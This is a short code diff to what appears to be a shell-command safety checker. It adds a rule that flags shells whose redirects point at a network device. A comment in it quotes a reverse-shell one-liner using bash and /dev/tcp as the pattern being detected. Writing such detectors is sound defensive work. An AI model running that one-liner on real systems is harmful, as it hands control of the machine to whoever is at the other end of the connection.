@@ -5,6 +5,8 @@ import {
   checkRedirect,
   downloadedFiles,
   isWide,
+  NETWORK_DEVICE,
+  systemPath,
   trimEnd,
 } from './command-checks.ts';
 import {
@@ -76,6 +78,9 @@ export function runArgs(all: Arg[], extra: Extra, ctx: Context): Flow {
     if (first) for (const { op, arg } of extra.redirects) checkRedirect(op, arg, pusher(ctx), ctx.budget);
     if (!head.known) return runUnknown(all.slice(at), extra, ctx);
     const program = programName(head.text);
+    // `bash -i >& /dev/tcp/host/port 0>&1`: a shell on a connection runs what the other end sends.
+    if (SHELLS.has(program) && extra.redirects.some(({ arg }) => NETWORK_DEVICE.test(systemPath(arg.text))))
+      push(ctx, 'downloadExec', `${program} runs commands from a network connection`);
     const spec = Object.hasOwn(WRAPPERS, program) ? WRAPPERS[program] : undefined;
     if (program === 'su' || (program === 'runuser' && !allTexts.includes('-u', at + 1))) break;
     if (spec === undefined) break;
